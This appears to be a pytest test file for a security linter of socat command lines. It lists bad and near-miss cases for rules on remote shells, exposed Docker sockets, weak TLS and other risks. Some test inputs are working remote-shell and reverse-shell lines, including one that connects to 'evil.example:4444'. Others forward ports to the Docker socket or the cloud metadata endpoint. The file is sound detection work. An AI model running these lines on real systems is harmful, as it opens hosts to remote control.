"""Every rule finds its bad cases, at the severity of docs/design.md, and leaves near-misses."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from catflap.core.facts import Facts
from catflap.rules.registry import RULES, find_rule, judge_bridge
from tests.support.judging import bridge_of, judge_line, verdict_of

if TYPE_CHECKING:
    from catflap.rules.rule import Rule

ROOT = Facts(uid=0, now=0.0)
USER = Facts(uid=1000, now=0.0)
OPEN = "TCP-LISTEN:8080,bind=0.0.0.0"
MUTUAL = "cert=srv.pem,cafile=ca.pem"
API = "TCP:127.0.0.1:9000"

BAD: dict[str, list[tuple[str, str]]] = {
    "remote-shell": [
        ("critical", "socat TCP-LISTEN:1,fork SYSTEM:'. /dev/stdin'"),
        ("critical", "socat TCP-LISTEN:1,fork 'SYSTEM:xargs -n1 sh -c'"),
        ("critical", """socat TCP-LISTEN:1,fork 'SYSTEM:python3 -c "$(cat)"'"""),
        ("critical", f"catflap run {OPEN} EXEC:/bin/bash"),
        ("critical", f"catflap run {OPEN},range=10.0.0.0/8 EXEC:bash"),
        ("critical", "catflap run TLS-LISTEN:1,bind=0.0.0.0,verify=0,cert=c EXEC:bash"),
        ("critical", "socat TCP-LISTEN:1,fork SYSTEM:'cat | sh'"),
        ("critical", "socat TCP:evil.example:4444 EXEC:'bash -li',pty"),
        ("critical", "socat UDP-LISTEN:1 SHELL"),
        ("critical", "socat TCP-LISTEN:1,fork SYSTEM:'read -r line; $line'"),
        ("critical", "socat TCP-LISTEN:1 SYSTEM:'while read c; do sh -c \"$c\"; done'"),
        ("critical", "socat TCP-LISTEN:1 EXEC:'sudo -i',pty"),
        ("critical", "socat TCP-LISTEN:1 EXEC:'login -f root',pty"),
        ("critical", "socat TCP-LISTEN:1 EXEC:'script -qc /bin/bash /dev/null'"),
        ("critical", "socat TCP:a.b:1 EXEC:'python3 -c \"import pty; pty.spawn(1)\"'"),
        ("critical", "socat -u TCP-LISTEN:1 EXEC:bash"),
        ("high", "catflap run TCP-LISTEN:1 EXEC:sh"),
        ("high", "catflap run TCP-LISTEN:1 EXEC:'python3 -i'"),
        ("high", "catflap run TCP-LISTEN:1 EXEC:'env -i TERM=xterm /bin/zsh -l'"),
        ("high", "catflap run TCP-LISTEN:1 EXEC:'docker exec -i box sh'"),
        ("high", "catflap run TCP-LISTEN:1 SYSTEM:'exec bash 2>&1'"),
        ("high", "catflap run UNIX-LISTEN:/tmp/s,mode=666 EXEC:bash"),
        ("high", "catflap run ABSTRACT-LISTEN:s EXEC:bash"),
        ("low", f"catflap run TLS-LISTEN:1,bind=10.0.0.1,{MUTUAL} EXEC:bash"),
        ("critical", "catflap run TLS-SERVER,cert=c,verify=0,via=[TCP:a.example:1] EXEC:bash"),
        ("critical", "socat TLS-SERVER,cert=c,via=[TCP:a.example:1] EXEC:bash"),
        ("low", f"catflap run TLS-SERVER,{MUTUAL},via=[TCP:a.example:1] EXEC:bash"),
    ],
    "docker-socket-exposed": [
        ("critical", f"catflap run {OPEN} UNIX:/var/run/docker.sock"),
        ("critical", "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/run/containerd/containerd.sock"),
        ("critical", "socat TCP-LISTEN:1,fork UNIX:/var/run/docker-host.sock"),
        ("critical", "socat TCP-LISTEN:1,fork EXEC:'nc -U /var/run/docker.sock'"),
        ("critical", "socat TCP-LISTEN:1,fork EXEC:'sudo docker system dial-stdio'"),
        ("critical", "socat TCP-LISTEN:1,fork EXEC:'exec socat - GOPEN\\:/run/docker.sock'"),
        ("critical", "socat TCP-LISTEN:1,fork UNIX:/run/libvirt/libvirt-sock"),
        ("critical", "socat TCP-LISTEN:2375,fork TCP:10.0.0.1:2375"),
        ("high", "catflap run TCP-LISTEN:2375 UNIX:/var/run/docker.sock"),
        ("low", f"catflap run TLS-LISTEN:1,bind=10.0.0.1,{MUTUAL} UNIX:/run/docker.sock"),
    ],
    "sensitive-service-exposed": [
        ("high", "catflap run TCP-LISTEN:6379,bind=0.0.0.0 UNIX:/run/redis/redis.sock"),
        ("medium", "catflap run TCP-LISTEN:5432,bind=172.17.0.1 TCP:127.0.0.1:5432"),
        ("high", "catflap run TCP-LISTEN:7000 UNIX:/tmp/ssh-a1/agent.77"),
        ("high", "socat TCP-LISTEN:7000,bind=127.0.0.1 UNIX:/run/user/1000/bus"),
        ("high", "socat TCP-LISTEN:9229,fork TCP:127.0.0.1:9229"),
        ("high", "socat TCP-LISTEN:80,fork TCP:169.254.169.254:80"),
        ("high", "socat TCP-LISTEN:10250,fork TCP:127.0.0.1:10250"),
        ("high", "socat TCP-LISTEN:6005,fork TCP:127.0.0.1:6005"),
    ],
    "plaintext-exposed": [
        ("high", f"catflap run {OPEN} {API}"),
        ("high", f"catflap run {OPEN},range=0.0.0.0/0 {API}"),
        ("high", f"catflap run {OPEN},range=8.8.8.0/24 {API}"),
        ("high", f"catflap run {OPEN},range=[10.0.0.0/8,fd00::/8] {API}"),
        ("high", f"catflap run TCP-LISTEN:80,bind=203.0.113.5 {API}"),
        ("high", f"socat TCP-LISTEN:8080,fork {API}"),
        ("high", f"socat UDP6-LISTEN:8080,fork {API}"),
        ("medium", f"catflap run {OPEN},range=10.0.0.0/8 {API}"),
        ("medium", f"catflap run {OPEN},range=[10.0.0.0/8,!10.9.0.0/16,fd00:1::/32] {API}"),
        ("medium", f"catflap run TCP-LISTEN:80,bind=172.17.0.1 {API}"),
        ("medium", f"socat TCP-LISTEN:80,fork,tcpwrap=web {API}"),
    ],
    "anonymous-clients": [
        ("high", f"catflap run TLS-LISTEN:1,bind=0.0.0.0,cert=c,verify=0 {API}"),
        ("high", f"socat OPENSSL-LISTEN:1,fork,cert=c,verify=0 {API}"),
        ("medium", f"catflap run TLS-LISTEN:1,bind=10.0.0.1,cert=c,verify=0 {API}"),
        ("medium", f"catflap run TLS-LISTEN:1,cert=c,verify=0 {API}"),
        ("medium", f"catflap run TLS-SERVER,cert=c,verify=0,via=[/dev/ttyS0] {API}"),
    ],
    "tls-no-ca": [
        ("high", f"socat OPENSSL-LISTEN:1,fork,cert=c {API}"),
        ("medium", f"socat OPENSSL-LISTEN:1,bind=127.0.0.1,cert=c {API}"),
    ],
    "tls-verify-off": [
        ("high", "catflap run STDIO TLS:api.internal:1,verify=0"),
        ("high", "socat - OPENSSL:10.0.0.1:1,verify=0"),
        ("medium", "catflap run STDIO TLS:localhost:1,verify=0"),
    ],
    "tls-any-name": [
        ("high", "catflap run STDIO TLS:api.internal:1,commonname="),
        ("medium", "catflap run STDIO TLS:api.internal:1,commonname=,cafile=ca.pem"),
        ("low", "catflap run STDIO TLS:127.0.0.1:1,commonname=,cafile=ca.pem"),
    ],
    "weak-cipher": [
        ("high", "catflap run STDIO TLS:a.b:1,cipher=ALL:eNULL"),
        ("high", "catflap run STDIO TLS:a.b:1,cipher=HIGH:@SECLEVEL=0"),
        ("high", "catflap run STDIO TLS:a.b:1,cipher=HIGH:aNULL"),  # codespell:ignore
        ("low", "catflap run STDIO TLS:127.0.0.1:1,cipher=RC4-MD5"),
        ("low", "catflap run STDIO TLS:a.b:1,cipher=AES128-SHA"),
    ],
    "tls-old-protocol": [
        ("high", "catflap run STDIO TLS:a.b:1,min-proto-version=SSL3"),
        ("low", "catflap run STDIO TLS:a.b:1,min-proto-version=TLS1.1"),
        ("low", "catflap run STDIO TLS:a.b:1,max-proto-version=TLS1.0"),
        ("info", "socat - OPENSSL:a.b:1"),
    ],
    "shell-interpolation": [
        ("high", "catflap run TCP-LISTEN:1 'SYSTEM:eval greet $SOCAT_PEERADDR'"),
        ("low", "catflap run TCP-LISTEN:1 'SYSTEM:greet $SOCAT_OPENSSL_X509_SUBJECT'"),
        ("high", "socat TCP-LISTEN:1 'SYSTEM:log $SOCAT_PEERADDR; eval greet $SOCAT_PEERPORT'"),
        ("low", "socat TCP-LISTEN:1 'SYSTEM:eval greet; log $SOCAT_PEERADDR'"),
    ],
    "plaintext-to-remote": [
        ("medium", "catflap run STDIO TCP:api.internal:80"),
        ("medium", "socat - UDP:8.8.8.8:53"),
        ("medium", "catflap run STDIO PROXY:proxy.internal:example.com:80"),
    ],
    "no-allowlist": [
        ("medium", f"catflap run TLS-LISTEN:1,bind=0.0.0.0,{MUTUAL} {API}"),
        ("medium", f"socat OPENSSL-LISTEN:1,fork,{MUTUAL} {API}"),
    ],
    "broad-allowlist": [
        ("medium", f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=0.0.0.0/0,{MUTUAL} {API}"),
        ("medium", f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=[10.0.0.0/8,::/0],{MUTUAL} {API}"),
    ],
    "unlimited-fork": [
        ("medium", f"socat OPENSSL-LISTEN:1,fork,{MUTUAL} {API}"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,fork {API}"),
    ],
    "no-timeout": [
        ("medium", f"socat OPENSSL-LISTEN:1,fork,{MUTUAL} {API}"),
        ("medium", f"catflap run TLS-LISTEN:1,bind=10.0.0.1,handshake-timeout=0,{MUTUAL} {API}"),
        ("low", f"catflap run TCP-LISTEN:1,idle-timeout=0 {API}"),
    ],
    "wildcard-bind": [
        ("low", f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=10.0.0.0/8,{MUTUAL} {API}"),
        ("low", f"catflap run TLS-LISTEN:1,bind=[::],range=10.0.0.0/8,{MUTUAL} {API}"),
    ],
    "runs-as-root": [
        ("low", f"catflap run TCP-LISTEN:1 {API}"),
        ("low", f"catflap run TCP-LISTEN:1,su=root {API}"),
    ],
    "setuid-keeps-groups": [("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,setuid=nobody {API}")],
    "unix-socket-world-accessible": [
        ("low", f"catflap run UNIX-LISTEN:/tmp/s,mode=666 {API}"),
        ("low", f"socat UNIX-LISTEN:/tmp/s,fork,umask=0 {API}"),
    ],
    "abstract-socket-no-permissions": [("low", f"catflap run ABSTRACT-LISTEN:s {API}")],
    "ptys-and-devices-exposed": [
        ("high", "socat TCP-LISTEN:2000,fork OPEN:/dev/ttyUSB0,raw,echo=0"),
        ("high", "socat TCP-LISTEN:11443 TUN:10.9.0.1/24,up"),
        ("medium", "socat TCP-LISTEN:2000,bind=10.0.0.1 /dev/ttyS0,b9600"),
        ("low", "catflap run TCP-LISTEN:2000 OPEN:/dev/ttyACM0"),
        ("low", "socat PTY,link=/tmp/serial,mode=666 UNIX:/run/app.sock"),
    ],
    "proxy-plaintext-credentials": [
        ("medium", "catflap run STDIO PROXY:proxy.internal:a.b:443,proxy-authorization-file=/f"),
        ("medium", "socat - SOCKS5:10.0.0.1:a.b:80,socksuser=me,sockspass=secret"),
    ],
    "vulnerable-version": [
        ("medium", "socat - SOCKS5:127.0.0.1:a.b:80 # of alpine/socat:1.8.0.3"),
        ("medium", "socat OPENSSL-LISTEN:1,bind=127.0.0.1,cafile=c STDIO # of socat:1.7.3.0"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,fork {API} # of socat:1.7.2.4"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1 {API} # of alpine/socat:1.8.0.0"),
    ],
    "self-signed-peer": [
        ("low", f"socat OPENSSL-LISTEN:1,bind=10.0.0.1,cert=me.pem,cafile=me.pem {API}"),
        ("low", "catflap run STDIO TLS:a.b:1,cert=me.pem,cafile=me.pem"),
    ],
    "secret-in-arguments": [
        ("high", "socat - PROXY:127.0.0.1:a.b:443,proxyauth=me:Trustno1 # kept in a file"),
        ("medium", "socat - PROXY:127.0.0.1:a.b:443,proxyauth=me:secret"),
        ("medium", "catflap run STDIO SOCKS5:127.0.0.1:a.b:80,sockspass=secret"),
        ("medium", "socat UNIX-LISTEN:/run/a.sock EXEC:'mysql --password=secret db'"),
        ("medium", "socat UNIX-LISTEN:/run/a.sock SYSTEM:'PGPASSWORD=secret psql'"),
    ],
    "payload-logged": [
        ("low", f"socat -r /tmp/traffic TCP-LISTEN:1,bind=127.0.0.1 {API}"),
        ("info", f"socat -v TCP-LISTEN:1,bind=127.0.0.1 {API}"),
        ("info", f"catflap run --dump text TCP-LISTEN:1 {API}"),
    ],
    "udp-amplifier": [
        ("low", "socat UDP-LISTEN:53,fork UDP:8.8.8.8:53"),
        ("low", "socat UDP4-RECVFROM:7,fork PIPE"),
        ("low", "socat UDP-RECVFROM:7 EXEC:./answer"),
    ],
    "mode-after-bind-race": [
        ("low", "socat -u UNIX-RECV:/run/log.sock,mode=0600 STDOUT"),
        ("low", "socat UNIX-RECVFROM:/run/log.sock,fork,user=app EXEC:./answer"),
        ("low", "socat -u PIPE:/run/fifo,mode=600 STDOUT"),
    ],
    "unknown-option": [
        ("low", f"socat UNIX-LISTEN:/run/a.sock,range=10.0.0.0/8 {API}"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,quux {API}"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,fork,max-children=many {API}"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,exec {API}"),
        ("low", "socat - QUUXLY:1"),
    ],
    "deprecated-or-misspelt": [
        ("low", f"socat TCP-LISTEN:1,bnd=127.0.0.1,fork {API}"),
        ("low", f"socat TCP-LISTEN:1,bind=127.0.0.1,reuseadr {API}"),
        ("low", "socat - TCP-LISTN:1"),
        ("low", "socat - OPENSSL:a.b:1,method=TLS1"),
        ("low", "socat - OPENSSL:a.b:1,compress=auto"),
    ],
    "privileged-port": [
        ("info", f"socat TCP-LISTEN:80,bind=127.0.0.1,fork {API}"),
        ("info", f"socat TCP-LISTEN:0443,bind=127.0.0.1,fork {API}"),
    ],
    "no-connection-log": [
        ("info", f"socat OPENSSL-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}"),
        ("info", f"socat -d OPENSSL-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}"),
    ],
    "half-close-data-loss": [
        ("info", "socat - UNIX:/run/app.sock"),
        ("info", "socat STDIO TCP:127.0.0.1:80"),
        ("info", "socat /var/run/haproxy.stat -"),
    ],
    "gopen-creates-file": [
        ("info", "socat -u ./settings.bin UNIX:/run/app.sock"),
        ("info", "socat -U STDOUT GOPEN:settings.bin"),
    ],
    "curve-pinned": [
        ("info", "socat - OPENSSL:a.b:1"),
        ("info", f"socat OPENSSL-LISTEN:1,{MUTUAL} {API}"),
    ],
}

NEAR_MISSES: dict[str, list[str]] = {
    "remote-shell": [
        "catflap run TCP-LISTEN:1 EXEC:./handler",
        "catflap run TCP-LISTEN:1 EXEC:'bash /srv/handler.sh'",
        "catflap run TCP-LISTEN:1 EXEC:'bash -c \"echo hello\"'",
        "catflap run TCP-LISTEN:1 EXEC:'python3 -u handler.py'",
        "catflap run TCP-LISTEN:1 EXEC:'python3 -m http.server'",
        "catflap run TCP-LISTEN:1 SYSTEM:'date; uptime'",
        "catflap run STDIO EXEC:bash",
        "catflap run UNIX-LISTEN:/tmp/s EXEC:bash",
        f"catflap run TLS-LISTEN:1,{MUTUAL} EXEC:bash",
        f"catflap run TLS-SERVER,{MUTUAL},via=[/dev/ttyS0,rawer] EXEC:bash",
        "catflap run TCP-LISTEN:1 EXEC:/usr/bin/bashtop",
        "socat TCP-LISTEN:1,fork EXEC:/bin/login,pty,stderr",
        "socat TCP-LISTEN:1,fork SYSTEM:'read -r line; echo $line'",
        "socat -U TCP-LISTEN:1 EXEC:bash",
        "socat TCP-LISTEN:1 'SYSTEM:eval greet $SOCAT_PEERADDR'",
        "socat TCP-LISTEN:1 EXEC:'sudo -u app ./handler'",
    ],
    "docker-socket-exposed": [
        "catflap run UNIX-LISTEN:/tmp/s UNIX:/var/run/docker.sock",
        "catflap run STDIO UNIX:/var/run/docker.sock",
        "socat TCP-LISTEN:1,fork EXEC:'nc -lU /var/run/docker.sock'",
        "socat TCP-LISTEN:1,fork EXEC:'docker system df'",
        "catflap run TCP-LISTEN:1 UNIX:/run/my-docker.sock.d/app",
        "socat TCP-LISTEN:1,fork UNIX:/run/docker-proxy.sock",
    ],
    "sensitive-service-exposed": [
        "catflap run TCP-LISTEN:5432 TCP:127.0.0.1:5432",
        "socat TCP-LISTEN:7000,bind=127.0.0.1 UNIX:/run/guest-agent.sock",
        "socat TCP-LISTEN:5432,fork TCP:127.0.0.1:15432",
        f"catflap run TLS-LISTEN:5432,bind=10.0.0.1,{MUTUAL} TCP:127.0.0.1:5432",
    ],
    "plaintext-exposed": [
        f"catflap run TCP-LISTEN:8080 {API}",
        f"catflap run {OPEN},range=127.0.0.0/8 {API}",
        f"catflap run {OPEN},range=[] {API}",
        f"catflap run {OPEN},if=lo {API}",
        f"socat TCP-LISTEN:8080,bind=localhost,fork {API}",
        f"catflap run UNIX-LISTEN:/tmp/s {API}",
    ],
    "anonymous-clients": [
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,{MUTUAL} {API}",
        f"socat OPENSSL-LISTEN:1,verify=1,{MUTUAL} {API}",
    ],
    "tls-no-ca": [
        f"catflap run TLS-LISTEN:1,cert=c {API}",
        f"socat OPENSSL-LISTEN:1,{MUTUAL} {API}",
        f"socat OPENSSL-LISTEN:1,cert=c,capath=/etc/ca {API}",
    ],
    "tls-verify-off": [
        "catflap run STDIO TLS:api.internal:1",
        "catflap run STDIO TLS:api.internal:1,verify",
        f"catflap run TLS-LISTEN:1,verify=0,cert=c {API}",
        f"catflap run TLS-SERVER,verify=0,cert=c,via=[/dev/ttyS0] {API}",
    ],
    "tls-any-name": [
        "catflap run STDIO TLS:api.internal:1,commonname=other.internal",
        f"catflap run TLS-LISTEN:1,commonname=,{MUTUAL} {API}",
        f"catflap run TLS-SERVER,commonname=,{MUTUAL},via=[PTY] {API}",
    ],
    "weak-cipher": [
        "catflap run STDIO TLS:a.b:1,cipher=HIGH:!aNULL:!eNULL:!MD5",  # codespell:ignore
        "catflap run STDIO TLS:a.b:1,cipher=ECDHE-RSA-AES128-GCM-SHA256",
        "catflap run STDIO TLS:a.b:1,cipher=TLS_AES_128_GCM_SHA256",
    ],
    "tls-old-protocol": [
        "catflap run STDIO TLS:a.b:1",
        "catflap run STDIO TLS:a.b:1,min-proto-version=TLS1.2",
        "socat - OPENSSL:a.b:1,min-proto-version=TLS1.2",
    ],
    "shell-interpolation": [
        "catflap run TCP-LISTEN:1 'SYSTEM:greet \\\"$SOCAT_PEERADDR\\\"'",
        "catflap run TCP-LISTEN:1 'EXEC:greet $SOCAT_PEERADDR'",
        "catflap run TCP-LISTEN:1 'SYSTEM:echo $HOME'",
    ],
    "plaintext-to-remote": [
        f"catflap run STDIO {API}",
        "catflap run STDIO TLS:api.internal:1",
        "catflap run STDIO SOCKS5:127.0.0.1:9050:example.com:80",
    ],
    "no-allowlist": [
        f"catflap run TLS-LISTEN:1,{MUTUAL} {API}",
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=203.0.113.0/24,{MUTUAL} {API}",
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,commonname=client.example,{MUTUAL} {API}",
        f"catflap run {OPEN} {API}",
    ],
    "broad-allowlist": [
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=10.0.0.0/8,{MUTUAL} {API}",
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,range=[!0.0.0.0/0],{MUTUAL} {API}",
    ],
    "unlimited-fork": [
        f"catflap run TLS-LISTEN:1,bind=0.0.0.0,fork,{MUTUAL} {API}",
        f"socat TCP-LISTEN:1,bind=127.0.0.1,fork,max-children=9 {API}",
        f"socat TCP-LISTEN:1,bind=127.0.0.1 {API}",
    ],
    "no-timeout": [
        f"catflap run TLS-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}",
        "catflap run STDIO TCP:127.0.0.1:1,idle-timeout=0",
    ],
    "wildcard-bind": [
        f"catflap run TLS-LISTEN:1,bind=10.0.0.1,range=10.0.0.0/8,{MUTUAL} {API}",
        f"catflap run {OPEN} {API}",
    ],
    "runs-as-root": [
        f"catflap run TCP-LISTEN:1,su=nobody {API}",
        "catflap run UNIX-LISTEN:/a UNIX:/b",
        f"catflap run STDIO {API}",
    ],
    "setuid-keeps-groups": [
        f"socat TCP-LISTEN:1,bind=127.0.0.1,su=nobody {API}",
        f"catflap run TCP-LISTEN:1,setuid=nobody {API}",
    ],
    "unix-socket-world-accessible": [
        f"catflap run UNIX-LISTEN:/tmp/s {API}",
        f"catflap run UNIX-LISTEN:/tmp/s,mode=660 {API}",
        f"socat UNIX-LISTEN:/tmp/s,fork {API}",
    ],
    "abstract-socket-no-permissions": [
        f"catflap run UNIX-LISTEN:s {API}",
        "catflap run STDIO ABSTRACT-CONNECT:s",
    ],
    "ptys-and-devices-exposed": [
        "socat TCP-LISTEN:4444 OPEN:/dev/tty,raw,echo=0",
        "socat TCP-LISTEN:4444 /dev/null",
        "socat PTY,link=/dev/ttyVA0,raw TCP:10.0.0.1:8899",
        "socat /dev/ttyUSB0,raw TCP:10.0.0.1:8899",
        "socat PTY,link=/tmp/a,mode=660,group=dialout PTY,link=/tmp/b",
        f"catflap run TLS-LISTEN:1,bind=10.0.0.1,{MUTUAL} OPEN:/dev/ttyUSB0",
    ],
    "proxy-plaintext-credentials": [
        "catflap run STDIO PROXY:127.0.0.1:a.b:443,proxy-authorization-file=/f",
        "socat - SOCKS5:10.0.0.1:a.b:80,socksuser=me",
    ],
    "vulnerable-version": [
        "socat - SOCKS5:127.0.0.1:a.b:80 # of alpine/socat:1.8.1.3",
        "catflap run STDIO SOCKS5:127.0.0.1:a.b:80 # of catflap:0.1",
        "socat - SOCKS5:127.0.0.1:a.b:80",
    ],
    "self-signed-peer": [
        f"socat OPENSSL-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}",
        "socat - OPENSSL:a.b:1,cert=me.pem,cafile=me.pem,verify=0",
    ],
    "secret-in-arguments": [
        "socat - PROXY:127.0.0.1:a.b:443,proxy-authorization-file=/run/secrets/proxy",
        "socat UNIX-LISTEN:/run/a.sock EXEC:'mysql --defaults-file=/etc/my.cnf db'",
        "socat UNIX-LISTEN:/run/a.sock EXEC:'login -p'",
    ],
    "payload-logged": [
        f"socat -d -d -lf /tmp/log TCP-LISTEN:1,bind=127.0.0.1 {API}",
        "socat -u UNIX:/a UNIX:/b",
    ],
    "udp-amplifier": [
        "socat UDP-LISTEN:53,bind=127.0.0.1,fork UDP:8.8.8.8:53",
        "socat UDP-LISTEN:53,fork,range=10.0.0.0/8 UDP:8.8.8.8:53",
        "socat -u UDP-RECV:514 OPEN:/var/log/remote,creat,append",
        "socat -u UDP-LISTEN:514,fork UDP:10.0.0.1:514",
        "socat UDP-LISTEN:1234 STDIO",
        f"socat OPENSSL-DTLS-SERVER:1,fork,{MUTUAL} {API}",
    ],
    "mode-after-bind-race": [
        "socat -u UNIX-RECV:/run/log.sock,mode=0600,umask=077 STDOUT",
        f"socat UNIX-LISTEN:/run/a.sock,mode=0600,fork {API}",
        "catflap run UNIX-LISTEN:/run/a.sock,mode=0600 STDIO",
    ],
    "unknown-option": [
        f"socat UNIX-LISTEN:/run/a.sock,mode=0660 {API}",
        f"socat -g UNIX-LISTEN:/run/a.sock,range=10.0.0.0/8 {API}",
        f"socat TCP-LISTEN:1,bind=127.0.0.1,reuseadr {API}",
    ],
    "deprecated-or-misspelt": [
        f"socat TCP-LISTEN:1,bind=127.0.0.1,reuseaddr {API}",
        f"socat TCP-LISTEN:1,bind=127.0.0.1,quux {API}",
        "socat - OPENSSL:a.b:1,compress=none",
    ],
    "privileged-port": [
        f"socat TCP-LISTEN:8080,bind=127.0.0.1,fork {API}",
        f"socat TCP-LISTEN:80,bind=127.0.0.1,fork,su=nobody {API}",
        "socat - TCP:127.0.0.1:80",
    ],
    "no-connection-log": [
        f"socat -d -d OPENSSL-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}",
        f"catflap run TLS-LISTEN:1,bind=10.0.0.1,{MUTUAL} {API}",
        f"socat TCP-LISTEN:1,bind=127.0.0.1 {API}",
    ],
    "half-close-data-loss": [
        "socat -t 5 - UNIX:/run/app.sock",
        "socat -u - UNIX:/run/app.sock",
        "socat -,raw,echo=0 UNIX:/run/console.sock",
        "socat - PTY,link=/tmp/a",
        "socat STDIO,ignoreeof UNIX:/run/app.sock",
        "catflap run STDIO UNIX:/run/app.sock",
    ],
    "gopen-creates-file": [
        "socat -u OPEN:./settings.bin,rdonly UNIX:/run/app.sock",
        "socat -u /dev/ttyUSB0 UNIX:/run/app.sock",
        "socat ./app.sock STDIO",
        "catflap run -u ./settings.bin UNIX:/run/app.sock",
    ],
    "curve-pinned": [
        "catflap run STDIO TLS:a.b:1",
        "socat - OPENSSL:127.0.0.1:1",
        "socat - TCP:a.b:443",
    ],
}

BY_FILES = {"key-in-repository", "private-key-exposed", "weak-key-or-signature"}
"""Rules that need certificates: tested in test_files.py."""


def _facts(slug: str) -> Facts:
    """Return who runs it: root, whom one rule needs, unless another then tells it."""
    return Facts() if slug == "privileged-port" else ROOT


@pytest.mark.parametrize(
    ("slug", "severity", "line"),
    [(slug, *case) for slug, cases in BAD.items() for case in cases],
)
def test_finds_the_bad_case(slug: str, severity: str, line: str) -> None:
    """The rule finds it, as bad as the design says."""
    assert verdict_of(line, _facts(slug)).get(slug) == severity


@pytest.mark.parametrize(
    ("slug", "line"), [(slug, line) for slug, lines in NEAR_MISSES.items() for line in lines]
)
def test_leaves_the_near_miss(slug: str, line: str) -> None:
    """The rule keeps quiet about what only looks like it."""
    assert slug not in verdict_of(line, _facts(slug))


def test_every_rule_has_its_cases() -> None:
    """A rule comes with a bad case and two near-misses."""
    slugs = {rule.slug for rule in RULES} - BY_FILES
    assert set(BAD) == slugs
    assert {slug for slug, lines in NEAR_MISSES.items() if len(lines) >= 2} == slugs


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.slug)
def test_examples_are_what_they_say(rule: Rule) -> None:
    """The bad example is found, the good one is not, and no case is worse than the worst."""
    if rule.slug not in BY_FILES:
        assert rule.slug in verdict_of(rule.bad, _facts(rule.slug))
    assert rule.slug not in verdict_of(rule.good, _facts(rule.slug))
    for severity, _ in BAD.get(rule.slug, []):
        assert severity in {"info", "low", "medium", "high", "critical"}
        assert find_rule(rule.slug) is rule


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.slug)
def test_words_for_people_are_there(rule: Rule) -> None:
    """Each rule is named after the bad pattern and says what it is about."""
    assert re.fullmatch(r"[a-z]+(-[a-z]+)+", rule.slug)
    assert rule.cwe > 0
    assert all((rule.title, rule.attacker, rule.mend, rule.bad_sentence, rule.good_sentence))
    assert rule.fixable


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.slug)
def test_worst_is_reached_and_never_passed(rule: Rule) -> None:
    """The worst severity that a rule declares is the worst of its cases."""
    if rule.slug in BY_FILES:
        return
    found = [
        finding.severity
        for _, line in BAD[rule.slug]
        for finding in judge_line(line, _facts(rule.slug))
        if finding.rule == rule.slug
    ]
    assert max(found) is rule.worst


@pytest.mark.parametrize(
    "line",
    [
        f"catflap run TCP-LISTEN:8080 {API}",
        f"catflap run TLS-LISTEN:8443,{MUTUAL} {API}",
        f"catflap run TLS-LISTEN:8443,bind=10.0.0.5,{MUTUAL} {API}",
        "catflap run TCP-LISTEN:8080 EXEC:./handler",
        f"catflap run STDIO {API}",
        "catflap run STDIO TLS:api.internal:8443,cafile=ca.pem",
        "catflap run UNIX-LISTEN:/a UNIX:/b",
        "socat UNIX-LISTEN:/a,fork UNIX:/b",
        "socat PTY,link=/tmp/a PTY,link=/tmp/b",
    ],
)
@pytest.mark.parametrize("facts", [ROOT, USER], ids=["root", "user"])
def test_nothing_to_warn_of(line: str, facts: Facts) -> None:
    """What people do all day, done well, starts without a warning, as root too."""
    assert set(verdict_of(line, facts).values()) <= {"low", "info"}


@pytest.mark.parametrize("line", [f"catflap run STDIO {API}", "catflap run UNIX-LISTEN:/a UNIX:/b"])
def test_nothing_at_all(line: str) -> None:
    """Bytes that never leave the host, between ends of one user, are nobody's business."""
    assert verdict_of(line, ROOT) == {}


def test_one_root_cause_is_one_finding() -> None:
    """What follows from the same cause is told as notes, by the names of its rules."""
    (finding,) = judge_line(f"socat TCP-LISTEN:8080,fork {API}")
    assert finding.rule == "plaintext-exposed"
    assert [note.partition(":")[0] for note in finding.notes] == [
        "wildcard-bind",
        "no-allowlist",
        "unlimited-fork",
        "no-timeout",
        "no-connection-log",
    ]


def test_worst_comes_first() -> None:
    """Findings are sorted by severity."""
    found = judge_line("socat TCP-LISTEN:8080 TCP:api.internal:80")
    assert [str(each.severity) for each in found] == ["high", "medium"]


def test_a_finding_points_at_its_cause() -> None:
    """The place of a finding is the option that opens the door, or the address."""
    (finding,) = judge_line(f"catflap run {OPEN} {API}")
    assert finding.source[finding.span.start : finding.span.end] == "bind=0.0.0.0"
    (finding,) = judge_line(f"socat TCP-LISTEN:8080 {API}")
    assert finding.source[finding.span.start : finding.span.end] == "TCP-LISTEN:8080"


def test_the_mend_of_a_listener_keeps_its_options() -> None:
    """The rewritten address can be copied: only encryption and proof are new."""
    (finding,) = judge_line(f"catflap run {OPEN},backlog=9 {API}")
    mended = "TLS-LISTEN:8080,bind=0.0.0.0,backlog=9,cert=FILE,cafile=FILE"
    assert mended in finding.mend
    assert "plaintext-exposed" not in verdict_of(f"catflap run {mended} {API}")


def test_rules_are_pure() -> None:
    """Judging twice says the same."""
    bridge = bridge_of(f"catflap run {OPEN} EXEC:bash")
    assert list(judge_bridge(bridge, USER)) == list(judge_bridge(bridge, USER))


def test_unknown_rule() -> None:
    """There is no rule of such a name."""
    assert find_rule("no-such-rule") is None
